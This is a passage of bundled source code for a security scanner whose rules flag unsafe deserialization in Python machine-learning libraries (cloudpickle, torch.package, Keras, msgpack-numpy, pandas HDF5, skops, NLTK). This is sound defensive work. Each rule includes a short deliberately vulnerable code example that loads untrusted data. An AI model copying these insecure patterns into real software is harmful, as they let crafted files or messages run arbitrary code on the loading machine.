    description: "cloudpickle serializes functions, lambdas and classes by value so that they can run on other machines; it is the transport of Ray, Dask, PySpark, joblib's process backend and MLflow's Python models. `cloudpickle.loads` is `pickle.loads`: the payload decides which code runs. This rule reports `cloudpickle.load`/`loads`, also reached through `cloudpickle.cloudpickle`, vendored copies (`ray.cloudpickle`, `pyspark.cloudpickle`, `joblib.externals.cloudpickle`, `srsly.cloudpickle`), spaCy's `srsly.pickle_loads`, aliases, rebinding, constant dynamic imports, and when passed as a callback.",
    securityImplications: "In distributed systems the deserializing side is often a privileged worker or driver. Anyone who can inject a message (an exposed scheduler port, a shared queue, a model artifact in a registry) runs code on every worker that loads it, with access to the cluster's data and credentials.",
    howToFix: "Keep cloudpickle traffic on authenticated, private channels between components you control, and never load cloudpickle files from users or the internet. To exchange data, use JSON, msgpack, Arrow or safetensors, and refer to functions by a registered name instead of shipping their code.",
    fixHint: "Exchange data (JSON, msgpack, Arrow) and reference code by name; load cloudpickle only over private, authenticated channels.",
    vulnerableExample: [
      "import cloudpickle",
      "",
      "def handle(request):",
      "    job = cloudpickle.loads(request.body)  # the client decides what runs",
      "    return job()"
    ].join("\n"),
    safeExample: [
      "import json",
      "",
      'JOBS = {"score": score_batch}',
      "",
      "def handle(request):",
      "    spec = json.loads(request.body)",
      '    return JOBS[spec["job"]](spec["rows"])  # only registered code runs'
    ].join("\n"),
    detectionScope: "Calls of `cloudpickle.load`, `cloudpickle.loads` and `srsly.pickle_loads`, resolved through imports (including vendored copies listed above), aliases, rebinding and constant dynamic imports, and these functions passed uncalled as a callback (medium confidence). `cloudpickle.dump`/`dumps` are not findings. Deserialization hidden inside frameworks (Ray, Dask, Spark) is not reported: only direct calls are.",
    references: [
      { title: "cloudpickle README (security notice)", url: "https://github.com/cloudpipe/cloudpickle#readme" },
      { title: "srsly: pickle_loads", url: "https://github.com/explosion/srsly#pickle" },
      ...DESERIALIZATION_REFERENCES
    ],
    faq: [
      {
        question: "cloudpickle is how our framework ships functions. What can we do?",
        answer: "Make sure only trusted components can reach the channel (authentication, private networks, TLS), and never accept cloudpickle payloads from users. Suppress reviewed internal uses with a justification."
      },
      { question: "Is `cloudpickle.dumps` reported?", answer: "No. Only loading is reported." }
    ]
  }
});

// src/rules/python/PYTHON-ML-SEC-006.ts
var message10 = unpicklingMessage(
  "torch.package, which unpickles the archive's objects and imports the Python source it ships",
  "Load only packages you built or verified (pinned hash); share weights as safetensors instead."
);
var PYTHON_ML_SEC_006_default = defineRule({
  id: "PYTHON-ML-SEC-006",
  name: "torch.package Import of Untrusted Archive",
  language: "python",
  severity: "high",
  confidence: "high",
  precision: "high",
  cwe: ["CWE-502"],
  owasp: ["A08:2021"],
  compliance: DESERIALIZATION_COMPLIANCE,
  tags: ["security", "deserialization", "pytorch", "torch", "ml", "model", "pickle", "rce", "cwe-502"],
  bundles: ["ml", "deserialization"],
  banditIds: [],
  similar: ["PYTHON-ML-SEC-001", "PYTHON-LANG-SEC-040"],
  prefilter: ["torch", "PackageImporter"],
  sinks: [{ call: ["torch.package.PackageImporter"], subclasses: true, message: message10 }],
  docs: {
    summary: "Detects `torch.package.PackageImporter`, which loads pickled objects and executes Python code shipped inside a `.pt` package.",
    description: "`torch.package` bundles a model's pickled objects together with the Python source needed to rebuild them. A `PackageImporter` opened on such an archive runs that source when `import_module` or `load_pickle` is called, and `load_pickle` runs the full unpickler (there is no `weights_only` mode). The PyTorch documentation states that torch.package is not secure and that packages must be trusted. This rule reports constructing a `PackageImporter` (also as `torch.package.package_importer.PackageImporter`, aliases, local subclasses); the `load_pickle`/`import_module` calls on it are part of the same finding.",
    securityImplications: "A package received from someone else is a program: loading it runs its code with the privileges of the process, on training machines and serving hosts that typically hold data and credentials.",
    howToFix: "Open only packages you produced, from storage only you can write, and verify a pinned SHA-256 before loading. To exchange models, ship weights as `safetensors` and the architecture as reviewed code in your repository, or use a format without embedded code (ONNX).",
    fixHint: "Load only packages you built and verified; exchange weights as safetensors plus reviewed model code.",
    vulnerableExample: [
      "from torch.package import PackageImporter",
      "",
      "def load_shared_model(path):",
      "    importer = PackageImporter(path)  # ships and runs its own code",
      '    return importer.load_pickle("model", "model.pkl")'
    ].join("\n"),
    safeExample: [
      "from safetensors.torch import load_file",
      "",
      "def load_shared_model(path):",
      "    model = MyModel()  # architecture from reviewed code",
      "    model.load_state_dict(load_file(path))  # tensors only",
      "    return model"
    ].join("\n"),
    detectionScope: "Calls of `torch.package.PackageImporter` (and `torch.package.package_importer.PackageImporter`) resolved through imports, aliases, rebinding and constant dynamic imports, and instantiation of local subclasses. `PackageExporter` is not a finding. Archives themselves are scanned by the artifact rules.",
    references: [
      { title: "PyTorch documentation: torch.package (security warning)", url: "https://pytorch.org/docs/stable/package.html" },
      { title: "safetensors documentation", url: "https://huggingface.co/docs/safetensors/index" },
      ...DESERIALIZATION_REFERENCES
    ],
    faq: [
      {
        question: "Why is the constructor reported rather than load_pickle?",
        answer: "Opening the archive is the decision to trust it: every useful operation on the importer runs its code or unpickles its data. One finding per archive keeps the review focused."
      },
      { question: "Is `PackageExporter` reported?", answer: "No. Writing a package runs no code from untrusted input." }
    ]
  }
});

// src/rules/python/PYTHON-ML-SEC-007.ts
var ADVICE5 = "Keep `safe_mode=True` (the default) and replace Lambda layers with registered custom layers.";
var SAFE_MODE_POSITION = {
  "keras.models.load_model": 3,
  "keras.saving.load_model": 3,
  "keras.saving.deserialize_keras_object": 2
};
function check6(m) {
  const position = SAFE_MODE_POSITION[m.target];
  const safeMode = m.args.find("safe_mode", position);
  if (!safeMode) return null;
  const truth = literalTruth(safeMode, m.model.tree.source);
  if (truth === true) return null;
  if (truth === false) {
    return {
      message: `${spelled(m)} with \`safe_mode=False\` deserializes Lambda layers, whose Python bytecode is stored in the file: loading a crafted model runs arbitrary code. ${ADVICE5}`
    };
  }
  return {
    confidence: "medium",
    message: `${spelled(m)} takes \`safe_mode\` from a value the analysis cannot evaluate; when it is False, Lambda bytecode stored in the file runs on load. ${ADVICE5}`
  };
}
var PYTHON_ML_SEC_007_default = defineRule({
  id: "PYTHON-ML-SEC-007",
  name: "Keras Model Loading With safe_mode Disabled",
  language: "python",
  severity: "high",
  confidence: "high",
  precision: "high",
  cwe: ["CWE-502"],
  owasp: ["A08:2021"],
  compliance: DESERIALIZATION_COMPLIANCE,
  tags: ["security", "deserialization", "keras", "tensorflow", "ml", "model", "rce", "cwe-502"],
  bundles: ["ml", "deserialization"],
  banditIds: [],
  similar: ["PYTHON-ML-SEC-001", "PYTHON-ML-SEC-004"],
  prefilter: ["keras"],
  sinks: [
    { call: Object.keys(SAFE_MODE_POSITION), check: check6, message: (m) => `${spelled(m)} may deserialize Lambda bytecode. ${ADVICE5}` },
    {
      call: ["keras.config.enable_unsafe_deserialization"],
      message: (m) => `${spelled(m)} turns off safe mode for every later model load in the process: Lambda bytecode in any loaded file then runs. ${ADVICE5}`
    }
  ],
  docs: {
    summary: "Detects Keras model loading with `safe_mode=False` and `keras.config.enable_unsafe_deserialization()`, which let a model file run arbitrary Python bytecode.",
    description: "Keras stores `Lambda` layers by serializing their Python function's bytecode into the model file. Keras 3 (and tf.keras since 2.13) refuses to rebuild them unless `safe_mode=False` is passed or unsafe deserialization is enabled globally, because rebuilding them executes attacker-chosen code (CVE-2024-3660 covered the missing check in earlier versions). This rule reports `keras.models.load_model`, `keras.saving.load_model`, and `keras.saving.deserialize_keras_object` when `safe_mode` is False or not a literal (medium confidence), and every call of `keras.config.enable_unsafe_deserialization()`. `tf.keras`, `tensorflow.keras` and `tf_keras` are treated as Keras.",
    securityImplications: "Model files are downloaded from hubs and shared between teams. With safe mode disabled, opening a `.keras` file runs whatever bytecode its Lambda layers carry, with access to the training data, credentials and network of the loading machine.",
    howToFix: "Do not disable safe mode. Replace `Lambda` layers with subclassed layers registered through `keras.saving.register_keras_serializable()` so that their code lives in your repository and the file stores only configuration. If a legacy model needs it, load it once in an isolated environment and re-save it without Lambda layers.",
    fixHint: "Keep safe_mode=True; replace Lambda layers with registered custom layers.",
    vulnerableExample: [
      "import keras",
      "",
      "def load(path):",
      "    return keras.models.load_model(path, safe_mode=False)  # Lambda bytecode runs"
    ].join("\n"),
    safeExample: [
      "import keras",
      "",
      "def load(path):",
      "    return keras.models.load_model(path)  # safe_mode=True: no stored bytecode runs"
    ].join("\n"),
    detectionScope: "Calls of the listed Keras functions (also through `tensorflow.keras`, `tf.keras`, `tf_keras`, aliases, rebinding) with `safe_mode` given as keyword or by position and literally false, or non-literal (medium confidence); the default (`safe_mode=True`) is not reported. Calls of `keras.config.enable_unsafe_deserialization` are always reported. Not covered: legacy HDF5 (`.h5`) models loaded by Keras 2 / TensorFlow < 2.13, which ignore `safe_mode`, because the file format is not visible from the call.",
    references: [
      { title: "Keras documentation: load_model and safe_mode", url: "https://keras.io/api/models/model_saving_apis/model_saving_and_loading/" },
      { title: "Keras documentation: enable_unsafe_deserialization", url: "https://keras.io/api/utils/config_utils/" },
      { title: "CVE-2024-3660: Keras arbitrary code injection via Lambda layers", url: "https://nvd.nist.gov/vuln/detail/CVE-2024-3660" },
      ...DESERIALIZATION_REFERENCES.slice(0, 3)
    ],
    faq: [
      {
        question: "Our model has a Lambda layer and fails to load without safe_mode=False.",
        answer: "Move the function into a custom layer class registered with `register_keras_serializable`, rebuild the model from trusted code, and re-save it. Then it loads in safe mode."
      },
      {
        question: "Is `load_model(path)` without safe_mode reported?",
        answer: "No. The default `safe_mode=True` refuses stored bytecode."
      }
    ]
  }
});

// src/rules/python/PYTHON-ML-SEC-008.ts
var OBJECT_COLLECTIVES = [
  "torch.distributed.recv_object_list",
  "torch.distributed.broadcast_object_list",
  "torch.distributed.gather_object",
  "torch.distributed.scatter_object_list",
  "torch.distributed.all_gather_object"
];
var message11 = (m) => `${spelled(m)} unpickles the objects other ranks send: any participant of the process group (or anyone who can join its rendezvous) can run code here. Exchange tensors with the tensor collectives (broadcast, all_gather) and keep the rendezvous endpoint private.`;
var PYTHON_ML_SEC_008_default = defineRule({
  id: "PYTHON-ML-SEC-008",
  name: "torch.distributed Object Collectives Unpickle Peer Data",
  language: "python",
  severity: "medium",
  confidence: "high",
  precision: "high",
  cwe: ["CWE-502"],
  owasp: ["A08:2021"],
  compliance: DESERIALIZATION_COMPLIANCE,
  tags: ["security", "deserialization", "pytorch", "torch", "distributed", "ml", "pickle", "cwe-502"],
  bundles: ["ml", "deserialization"],
  banditIds: [],
  similar: ["PYTHON-LANG-SEC-073", "PYTHON-ML-SEC-001"],
  prefilter: ["torch"],
  sinks: [{ call: OBJECT_COLLECTIVES, message: message11 }],
  docs: {
    summary: "Detects torch.distributed object collectives (`broadcast_object_list`, `all_gather_object`, `gather_object`, `scatter_object_list`, `recv_object_list`), which pickle and unpickle objects between ranks.",
    description: "Tensor collectives move raw tensor memory; the `*_object*` collectives instead pickle arbitrary Python objects on the sending rank and unpickle them on the receiving ranks. The PyTorch documentation warns that they use pickle implicitly and must only be called with data you trust. This rule reports every call of these functions (also via `torch.distributed.distributed_c10d`, `import torch.distributed as dist`, aliases and rebinding). Severity is medium: the peers are normally the job's own ranks, but any compromised rank, or anyone who can join an exposed rendezvous (TCPStore, c10d) endpoint, can run code on all the others.",
    securityImplications: "Training jobs span many machines that share credentials and data. Code execution through a poisoned object propagates from one rank to every rank that receives it, and an unauthenticated rendezvous port reachable from other networks lets an outsider join the group.",
    howToFix: "Exchange tensors with `broadcast`, `all_gather`, `send`/`recv`, encoding metadata as integer or byte tensors or as JSON in a byte tensor. Keep the rendezvous (`MASTER_ADDR`/`MASTER_PORT`, TCPStore) on a private network. Use object collectives only for objects built by your own code on trusted ranks.",
    fixHint: "Exchange tensors (or JSON in byte tensors) instead of pickled objects; keep the rendezvous private.",
    vulnerableExample: [
      "import torch.distributed as dist",
      "",
      "def share_config(config):",
      "    objects = [config]",
      "    dist.broadcast_object_list(objects, src=0)  # receivers unpickle",
      "    return objects[0]"
    ].join("\n"),
    safeExample: [
      "import json",
      "import torch",
      "import torch.distributed as dist",
      "",
      "def share_config(config, size=4096):",
      "    buf = torch.zeros(size, dtype=torch.uint8)",
      "    if dist.get_rank() == 0:",
      "        raw = json.dumps(config).encode()",
      "        buf[: len(raw)] = torch.tensor(list(raw), dtype=torch.uint8)",
      "    dist.broadcast(buf, src=0)  # raw bytes, decoded as JSON",
      '    return json.loads(bytes(buf.tolist()).rstrip(b"\\0"))'
    ].join("\n"),
    detectionScope: "Calls of `torch.distributed.recv_object_list`, `broadcast_object_list`, `gather_object`, `scatter_object_list` and `all_gather_object` resolved through imports, aliases, rebinding and constant dynamic imports. Tensor collectives are not reported. `torch.distributed.rpc` (which also pickles) is not covered.",
    references: [
      { title: "PyTorch documentation: torch.distributed object collectives (pickle warning)", url: "https://pytorch.org/docs/stable/distributed.html#torch.distributed.broadcast_object_list" },
      ...DESERIALIZATION_REFERENCES
    ],
    faq: [
      {
        question: "All ranks run our own code. Is this a false positive?",
        answer: "Usually the risk is low, hence medium severity. It matters when the rendezvous endpoint is reachable from untrusted networks or when ranks process untrusted inputs that end up in the exchanged objects. Suppress reviewed calls with a justification."
      }
    ]
  }
});

// src/rules/python/PYTHON-ML-SEC-009.ts
var ADVICE6 = "Use plain msgpack and encode arrays of numeric dtype yourself, or safetensors/npy with allow_pickle=False.";
function message12(m) {
  if (m.target === "msgpack_numpy.patch") {
    return `${spelled(m)} makes every later \`msgpack.unpackb\`/\`msgpack.loads\` in the process decode object arrays with pickle.loads: any msgpack input can then run arbitrary code. ${ADVICE6}`;
  }
  if (m.via === "reference") {
    return `${spelled(m)} is used as a decoding hook: it unpickles arrays of dtype object ("kind" b"O"), so a crafted msgpack message runs arbitrary code. ${ADVICE6}`;
  }
  return `${spelled(m)} unpickles arrays of dtype object ("kind" b"O") found in the message, so crafted msgpack data runs arbitrary code. ${ADVICE6}`;
}
var PYTHON_ML_SEC_009_default = defineRule({
  id: "PYTHON-ML-SEC-009",
  name: "msgpack-numpy Decodes Object Arrays With Pickle",
  language: "python",
  severity: "high",
  confidence: "high",
  precision: "high",
  cwe: ["CWE-502"],
  owasp: ["A08:2021"],
  compliance: DESERIALIZATION_COMPLIANCE,
  tags: ["security", "deserialization", "msgpack", "numpy", "ml", "pickle", "rce", "cwe-502"],
  bundles: ["ml", "deserialization"],
  banditIds: [],
  similar: ["PYTHON-ML-SEC-002", "PYTHON-LANG-SEC-040"],
  prefilter: ["msgpack_numpy"],
  sinks: [
    {
      call: ["msgpack_numpy.unpackb", "msgpack_numpy.loads", "msgpack_numpy.unpack", "msgpack_numpy.load", "msgpack_numpy.Unpacker", "msgpack_numpy.decode"],
      references: true,
      message: message12
    },
    { call: ["msgpack_numpy.patch"], message: message12 }
  ],
  docs: {
    summary: "Detects msgpack-numpy decoding (`msgpack_numpy.unpackb`/`loads`/`unpack`/`Unpacker`, `decode` as an object hook, `patch()`), which unpickles object arrays from the message.",
    description: 'msgpack is a data-only format, but msgpack-numpy extends it with NumPy arrays. Its `decode` hook turns any map tagged `nd: True` with `kind: b"O"` into `pickle.loads(data)`, so a msgpack message can carry a pickle that runs when decoded. This rule reports msgpack-numpy\'s decoding entry points (`unpackb`, `loads`, `unpack`, `load`, `Unpacker`, `decode`), `msgpack_numpy.decode` passed as `object_hook` to plain msgpack, and `msgpack_numpy.patch()`, which installs the hook into `msgpack` globally.',
    securityImplications: "msgpack is chosen precisely because it is supposed to be safe for network messages (RPC, queues, caches, model servers). With msgpack-numpy decoding, every peer that can send a message can execute code in the receiver.",
    howToFix: "Decode untrusted messages with plain `msgpack.unpackb` and no msgpack-numpy hook. Send arrays as raw buffers with explicit numeric dtype and shape (`arr.tobytes()`, `np.frombuffer`), and reject object dtypes.",
    fixHint: "Decode with plain msgpack and rebuild numeric arrays with np.frombuffer; never decode object arrays from peers.",
    vulnerableExample: [
      "import msgpack",
      "import msgpack_numpy as m",
      "",
      "def handle(payload):",
      "    return msgpack.unpackb(payload, object_hook=m.decode)  # object arrays are unpickled"
    ].join("\n"),
    safeExample: [
      "import msgpack",
      "import numpy as np",
      "",
      "def handle(payload):",
      "    msg = msgpack.unpackb(payload)",
      '    return np.frombuffer(msg["data"], dtype=np.float32).reshape(msg["shape"])'
    ].join("\n"),
    detectionScope: "Calls of `msgpack_numpy.unpackb`, `loads`, `unpack`, `load`, `Unpacker`, `decode` and `patch`, and `msgpack_numpy.decode`/`unpackb`/`loads` passed uncalled as an argument (for example `object_hook=m.decode`), resolved through imports, aliases and rebinding. Calls of plain `msgpack` after `patch()` are not reported individually: the `patch()` call is the finding. Encoding (`packb`, `encode`) is not reported.",
    references: [
      { title: "msgpack-numpy README", url: "https://github.com/lebedov/msgpack-numpy" },
      { title: "msgpack-numpy decode() unpickles object arrays (issue/PR discussion)", url: "https://github.com/lebedov/msgpack-numpy/pull/58" },
      ...DESERIALIZATION_REFERENCES
    ],
    faq: [
      {
        question: "Our messages never contain object arrays.",
        answer: "Your senders do not produce them, but an attacker's message can. The decoder accepts the pickled form whenever it appears, so the protection has to be on the decoding side."
      },
      { question: "Is plain `msgpack.unpackb` reported?", answer: "No, unless msgpack-numpy's hook is passed to it or installed with `patch()`." }
    ]
  }
});

// src/rules/python/PYTHON-ML-SEC-010.ts
var ADVICE7 = 'Read HDF5 only from trusted sources, or store tables as Parquet; with format="table" and non-object dtypes nothing is pickled.';
function message13(m) {
  return `${spelled(m)} reads pandas HDF5 data, where object-dtype columns in "fixed" format are stored with pickle: a crafted file runs arbitrary code when read. ${ADVICE7}`;
}
function check7(m) {
  if (m.target !== "pandas.HDFStore") return {};
  const mode = m.args.find("mode", 1);
  const value = mode && m.model.constantString(mode, m.scope);
  return value === "w" ? null : {};
}
var PYTHON_ML_SEC_010_default = defineRule({
  id: "PYTHON-ML-SEC-010",
  name: "Pandas HDF5 Read May Unpickle",
  language: "python",
  severity: "medium",
  confidence: "medium",
  precision: "medium",
  cwe: ["CWE-502"],
  owasp: ["A08:2021"],
  compliance: DESERIALIZATION_COMPLIANCE,
  tags: ["security", "deserialization", "pandas", "hdf5", "pytables", "ml", "data", "pickle", "cwe-502"],
  bundles: ["ml", "deserialization"],
  banditIds: [],
  similar: ["PYTHON-ML-SEC-003"],
  prefilter: ["pandas", "read_hdf", "HDFStore"],
  sinks: [{ call: ["pandas.read_hdf", "pandas.HDFStore"], check: check7, message: message13 }],
  docs: {
    summary: 'Detects `pandas.read_hdf` and opening an existing `pandas.HDFStore`: object-dtype data in HDF5 "fixed" format is stored with pickle and unpickled on read.',
    description: 'pandas writes HDF5 through PyTables. In the default "fixed" format, columns of dtype `object` (and some index types) are serialized with pickle, and reading them back calls `pickle.loads`. The pandas documentation warns that loading such data from untrusted sources can be unsafe. This rule reports `pandas.read_hdf` and `pandas.HDFStore(...)` (except `mode="w"`, which truncates the file), also as `pandas.io.pytables.*`. It is medium severity and medium confidence: whether a given file contains pickled data depends on how it was written.',
    securityImplications: "HDF5 files look like inert numeric data and are shared freely as datasets. A crafted file with a pickled object column runs code in the process that reads it.",
    howToFix: 'Use Parquet or Feather to exchange tables. If HDF5 is required, write with `format="table"` and explicit non-object dtypes (strings as fixed-width), and read files only from trusted sources.',
    fixHint: "Exchange tables as Parquet/Feather; read HDF5 only from trusted sources.",
    vulnerableExample: [
      "import pandas as pd",
      "",
      "def load_upload(path):",
      '    return pd.read_hdf(path, "data")  # pickled object columns are unpickled'
    ].join("\n"),
    safeExample: [
      "import pandas as pd",
      "",
      "def load_upload(path):",
      "    return pd.read_parquet(path)  # columnar data only"
    ].join("\n"),
    detectionScope: 'Calls of `pandas.read_hdf` and `pandas.HDFStore` (also `pandas.io.pytables.read_hdf`/`HDFStore`) resolved through imports, aliases and rebinding; `HDFStore` with the constant mode `"w"` (keyword or position 1) is not reported. Writes (`to_hdf`) are not findings.',
    references: [
      { title: "pandas documentation: read_hdf (pickle warning)", url: "https://pandas.pydata.org/docs/reference/api/pandas.read_hdf.html" },
      { title: "pandas documentation: HDFStore", url: "https://pandas.pydata.org/docs/reference/api/pandas.HDFStore.html" },
      ...DESERIALIZATION_REFERENCES
    ],
    faq: [
      {
        question: "Our HDF5 files contain only floats. Is this a false positive?",
        answer: "For files you write yourself, yes in practice: suppress it with that justification. The rule cannot see how a file was written, and a file from elsewhere may contain pickled columns."
      }
    ]
  }
});

// src/rules/python/PYTHON-ML-SEC-011.ts
var ADVICE8 = "Inspect `skops.io.get_untrusted_types(...)` and pass only the types you have reviewed as `trusted=[...]`.";
var UNTRUSTED_TYPES = "skops.io.get_untrusted_types";
var LISTS = /* @__PURE__ */ new Set(["list", "tuple", "none", "false"]);
function isReviewedList(m, trusted) {
  if (LISTS.has(trusted.type)) return true;
  if (trusted.type !== "identifier") return false;
  const bindings = m.model.lookup(m.model.text(trusted), m.scope, trusted);
  return !!bindings?.length && bindings.every((b) => b.kind === "assignment" && b.value !== void 0 && LISTS.has(b.value.type));
}
function check8(m) {
  const trusted = m.args.find("trusted", 1);
  if (!trusted) return null;
  if (trusted.type === "true") {
    return { message: `${spelled(m)} with \`trusted=True\` instantiates every type the file names, which lets a crafted file run arbitrary code. ${ADVICE8}` };
  }
  if (isReviewedList(m, trusted)) return null;
  if (namesOf(m, trusted).includes(`${UNTRUSTED_TYPES}()`)) {
    return {
      message: `${spelled(m)} trusts the result of \`get_untrusted_types\`, i.e. every type the file itself asks for: that disables skops' protection and lets a crafted file run arbitrary code. ${ADVICE8}`
    };
  }
  return {
    confidence: "medium",
    message: `${spelled(m)} takes \`trusted\` from a value the analysis cannot check; if it includes types from the file itself, a crafted file can run arbitrary code. ${ADVICE8}`
  };
}
var PYTHON_ML_SEC_011_default = defineRule({
  id: "PYTHON-ML-SEC-011",
  name: "skops Load Trusting All Types",
  language: "python",
  severity: "high",
  confidence: "high",
  precision: "high",
  cwe: ["CWE-502"],
  owasp: ["A08:2021"],
  compliance: DESERIALIZATION_COMPLIANCE,
  tags: ["security", "deserialization", "skops", "scikit-learn", "ml", "model", "cwe-502"],
  bundles: ["ml", "deserialization"],
  banditIds: [],
  similar: ["PYTHON-ML-SEC-004"],
  prefilter: ["skops"],
  sinks: [{ call: ["skops.io.load", "skops.io.loads"], check: check8, message: (m) => `${spelled(m)} may trust types chosen by the file. ${ADVICE8}` }],
  docs: {
    summary: "Detects `skops.io.load`/`loads` with `trusted=True` or with the file's own `get_untrusted_types()` result, which defeats skops' type checks.",
    description: "skops' persistence format exists to load scikit-learn models without pickle's risks: it refuses to instantiate types that are not on a safe list unless the caller trusts them explicitly. `trusted=True` (skops < 0.10) trusts everything, and the common shortcut `trusted=get_untrusted_types(file=path)` trusts exactly the types the file asks for, which is the same thing: a crafted file can name functions such as `builtins.exec` or `os.system` and have them called. This rule reports those two patterns, and a `trusted` value it cannot inspect at medium confidence. A literal list of type names (in the call or bound to a name) is treated as a reviewed allowlist.",
    securityImplications: "Models shared on hubs in skops format are considered safe to open. With the check disabled, opening one runs the attacker's chosen callables in the loading process.",
    howToFix: "Call `skops.io.get_untrusted_types(file=path)`, review the list, and pass only the reviewed type names as a literal `trusted=[...]`. Refuse files that ask for anything else.",
    fixHint: "Pass a reviewed literal list to trusted=, never True or the file's own get_untrusted_types().",
    vulnerableExample: [
      "import skops.io as sio",
      "",
      "def load(path):",
      "    return sio.load(path, trusted=sio.get_untrusted_types(file=path))  # trusts whatever the file wants"
    ].join("\n"),
    safeExample: [
      "import skops.io as sio",
      "",
      'REVIEWED = ["sklearn.ensemble._forest.RandomForestClassifier"]',
      "",
      "def load(path):",
      "    unknown = set(sio.get_untrusted_types(file=path)) - set(REVIEWED)",
      "    if unknown:",
      '        raise ValueError(f"unreviewed types: {sorted(unknown)}")',
      "    return sio.load(path, trusted=REVIEWED)"
    ].join("\n"),
    detectionScope: "Calls of `skops.io.load` and `skops.io.loads` with `trusted` (keyword or position 1) literally `True`, bound to a call of `skops.io.get_untrusted_types` (directly or through a variable), or a value the analysis cannot inspect (medium confidence). No `trusted`, `None`, `False` and literal lists (also through a name bound only to a literal list) are not reported.",
    references: [
      { title: "skops documentation: secure persistence", url: "https://skops.readthedocs.io/en/stable/persistence.html" },
      { title: "skops API: skops.io.load", url: "https://skops.readthedocs.io/en/stable/modules/classes.html#skops.io.load" },
      ...DESERIALIZATION_REFERENCES.slice(0, 3)
    ],
    faq: [
      {
        question: "Why is `trusted=get_untrusted_types(file=path)` a problem? It is in many examples.",
        answer: "It trusts the list the file provides, so a malicious file trusts itself. Review the list once and keep the reviewed names in code."
      }
    ]
  }
});

// src/rules/python/PYTHON-ML-SEC-012.ts
var ADVICE9 = "Upgrade to NLTK >= 3.9 and use its pickle-free resources (punkt_tab, averaged_perceptron_tagger_eng); load only resources from a trusted nltk_data directory.";
var PICKLE_EXTENSIONS = /\.(pickle|pkl)$/i;
function check9(m) {
  const format = m.args.find("format", 1);
  const formatValue = format && m.model.constantString(format, m.scope);
  if (format && formatValue === void 0) {
    return { confidence: "low", message: `${spelled(m)} with a non-constant \`format\`: when it is "pickle" (or "auto" on a .pickle resource) the resource is unpickled. ${ADVICE9}` };
  }
  if (formatValue === "pickle") return { message: message14(m) };
  if (formatValue !== void 0 && formatValue !== "auto") return null;
  const resource = m.args.find("resource_url", 0);
  if (!resource) return m.args.mayBeHidden("resource_url", 0) ? { confidence: "low", message: message14(m) } : null;
  const url = m.model.constantString(resource, m.scope);
  if (url === void 0) {
    return { confidence: "low", message: `${spelled(m)} loads a resource named at run time; resources ending in .pickle are unpickled. ${ADVICE9}` };
  }
  return PICKLE_EXTENSIONS.test(url) ? { message: message14(m) } : null;
}
function message14(m) {
  return `${spelled(m)} unpickles a .pickle resource: before NLTK 3.9 with no restriction at all (CVE-2024-39705), since then through a restricted unpickler. A tampered nltk_data package can run code. ${ADVICE9}`;
}
var PYTHON_ML_SEC_012_default = defineRule({
  id: "PYTHON-ML-SEC-012",
  name: "NLTK Loads Pickled Resources",
  language: "python",
  severity: "medium",
  confidence: "high",
  precision: "medium",
  cwe: ["CWE-502"],
  owasp: ["A08:2021"],
  compliance: DESERIALIZATION_COMPLIANCE,
  tags: ["security", "deserialization", "nltk", "nlp", "ml", "pickle", "cwe-502"],
  bundles: ["ml", "deserialization"],
  banditIds: [],
  similar: ["PYTHON-LANG-SEC-040", "PYTHON-ML-SEC-004"],
  prefilter: ["nltk"],
  sinks: [{ call: ["nltk.data.load"], check: check9, message: message14 }],
  docs: {
    summary: 'Detects `nltk.data.load` of pickled resources (`.pickle` files or `format="pickle"`), which unpickles data from the nltk_data directories.',
    description: '`nltk.data.load` picks a loader from the `format` argument or, by default, from the resource\'s file extension. For `.pickle` resources (the classic punkt tokenizers and taggers) it unpickles the file. Up to NLTK 3.8.1 this was a plain `pickle.load`, so a tampered data package executed code (CVE-2024-39705); NLTK 3.9 switched to a restricted unpickler and pickle-free replacements. This rule reports `nltk.data.load` with `format="pickle"`, or with the default format and a constant resource name ending in `.pickle`/`.pkl` (medium severity), and resources or formats named at run time at low confidence.',
    securityImplications: "NLTK resources are downloaded from the internet into shared directories (`~/nltk_data`, `/usr/share/nltk_data`, paths from `NLTK_DATA`). Anyone who can write there, or tamper with the download, controls the unpickled bytes.",
    howToFix: "Upgrade to NLTK 3.9 or later and use the pickle-free resources (`punkt_tab`, `averaged_perceptron_tagger_eng`, `nltk.sent_tokenize`/`pos_tag`, which load them). Keep nltk_data in a directory only your deployment can write, and never point `nltk.data.path` at user-controlled locations.",
    fixHint: "Use NLTK >= 3.9 pickle-free resources (punkt_tab) instead of loading .pickle files.",
    vulnerableExample: [
      "import nltk",
      "",
      'tokenizer = nltk.data.load("tokenizers/punkt/english.pickle")  # unpickles the resource'
    ].join("\n"),
    safeExample: [
      "import nltk",
      "",
      "sentences = nltk.sent_tokenize(text)  # NLTK >= 3.9 loads punkt_tab, no pickle"
    ].join("\n"),
    detectionScope: 'Calls of `nltk.data.load` (also `from nltk.data import load`, aliases, rebinding) with `format` (keyword or position 1) constant "pickle", or "auto"/missing with a constant `resource_url` ending in .pickle/.pkl; a non-constant format or resource is reported at low confidence. Other formats (text, yaml, json, cfg, ...) are not reported. Internal NLTK loaders that unpickle model files are not covered.',
    references: [
      { title: "NLTK documentation: nltk.data.load", url: "https://www.nltk.org/api/nltk.data.html#nltk.data.load" },
      { title: "CVE-2024-39705 / GHSA-cgvx-9447-vcch: NLTK unsafe deserialization", url: "https://github.com/advisories/GHSA-cgvx-9447-vcch" },
      { title: "nltk/nltk#3266: remote code execution through pickled resources", url: "https://github.com/nltk/nltk/issues/3266" },
      ...DESERIALIZATION_REFERENCES.slice(0, 3)
    ],
    faq: [
      {
        question: "We are on NLTK 3.9+. Is this still a problem?",
        answer: "Much less: the restricted unpickler refuses classes and functions, which is why the severity is medium. Restricted unpicklers have been bypassed before, and the pickle-free resources make the question moot."
      }
    ]
  }
});

// src/rules/registry.ts
var PYTHON_RULES = [
  PYTHON_LANG_SEC_040_default,
  PYTHON_LANG_SEC_041_default,
  PYTHON_LANG_SEC_042_default,
  PYTHON_LANG_SEC_043_default,
  PYTHON_LANG_SEC_044_default,
  PYTHON_LANG_SEC_045_default,
  PYTHON_LANG_SEC_046_default,
  PYTHON_LANG_SEC_073_default,
  PYTHON_ML_SEC_001_default,
  PYTHON_ML_SEC_002_default,
  PYTHON_ML_SEC_003_default,
  PYTHON_ML_SEC_004_default,
  PYTHON_ML_SEC_005_default,
  PYTHON_ML_SEC_006_default,
  PYTHON_ML_SEC_007_default,
  PYTHON_ML_SEC_008_default,
  PYTHON_ML_SEC_009_default,
  PYTHON_ML_SEC_010_default,
  PYTHON_ML_SEC_011_default,
  PYTHON_ML_SEC_012_default
].sort((a, b) => a.id.localeCompare(b.id));
var BUNDLE_DESCRIPTIONS = {
